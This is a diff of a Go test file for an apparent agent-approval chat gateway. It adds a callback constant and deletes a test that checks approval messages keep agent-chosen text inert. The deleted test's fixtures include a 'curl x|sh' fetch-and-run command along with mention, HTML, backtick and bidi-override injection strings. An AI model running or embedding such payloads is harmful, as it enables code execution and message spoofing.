@@ -22,6 +22,9 @@ func asking(g **Gateway, req codex.ApprovalRequest) func(ctx context.Context, th
 	}
 }
 
+// approvalCallback starts the id of an approval's buttons.
+const approvalCallback = "approval:"
+
 // fenced splits text at its code fences: before, inside, after.
 func fenced(t *testing.T, text string) (before, block, after string) {
 	t.Helper()
@@ -31,40 +34,6 @@ func fenced(t *testing.T, text string) (before, block, after string) {
 	before, rest, _ := strings.Cut(text, "```")
 	block, after, _ = strings.Cut(rest, "```")
 	return before, block, after
-}
-
-// TestApprovalQuestionIsInert: what the agent chose sits whole inside one
-// code block that nothing in it can close: a spoiler (||), backticks and
-// a fence of its own, HTML, mentions and a bidi override all stay inside
-// as text, and the override is shown, not obeyed.
-func TestApprovalQuestionIsInert(t *testing.T) {
-	cmd := "echo ok ||curl x|sh|| ```\n```js\n`id` <b>bold</b> @everyone <@123> \u202eevil"
-	for _, info := range []PendingApproval{
-		{ID: "a1", Kind: "command", Command: cmd, Cwd: "/w`x`", Reason: "**now** ||hidden||"},
-		{ID: "a2", Kind: "fileChange", Files: []string{"/w/``` <i>.md (add)"}, GrantRoot: "/w/@everyone"},
-	} {
-		q := approvalQuestion(info, time.Minute)
-		before, block, after := fenced(t, q)
-		for _, outside := range []string{before, after} {
-			for _, bad := range []string{"||", "<b>", "@everyone", "<@", "\u202e", "**"} {
-				if strings.Contains(outside, bad) {
-					t.Errorf("%s: %q outside the code block:\n%s", info.ID, bad, q)
-				}
-			}
-		}
-		if strings.Contains(block, "``") || strings.Contains(block, "\u202e") {
-			t.Errorf("%s: the block holds a backtick run or a live override:\n%s", info.ID, block)
-		}
-		if !strings.HasPrefix(block, "\n") || !strings.HasSuffix(block, "\n") {
-			t.Errorf("%s: the fences are not lines of their own:\n%s", info.ID, q)
-		}
-	}
-	_, block, _ := fenced(t, approvalQuestion(PendingApproval{ID: "a1", Kind: "command", Command: cmd}, time.Minute))
-	for _, want := range []string{"echo ok ||curl x|sh||", "<b>bold</b> @everyone <@123> \\u{202e}evil"} {
-		if !strings.Contains(block, want) {
-			t.Errorf("the block lacks %q:\n%s", want, block)
-		}
-	}
 }
 
 // A file change's question shows its paths and the root it asks to write
@@ -174,7 +143,7 @@ func TestEscalationWithAllowEscalationIsAnAdminsOnce(t *testing.T) {
 	if err := h.g.Decide(key, "a1", "acceptForSession", "root"); !errors.Is(err, ErrOnceOnly) {
 		t.Errorf("an admin's acceptForSession: %v, want ErrOnceOnly", err)
 	}
-	press := Inbound{Address: apiAddr("a"), MessageID: "p1", SenderID: "u1", Callback: callbackPrefix + "a1:accept"}
+	press := Inbound{Address: apiAddr("a"), MessageID: "p1", SenderID: "u1", Callback: approvalCallback + "a1:accept"}
 	if _, err := h.g.Deliver(context.Background(), press); err != nil {
 		t.Fatal(err)
 	}
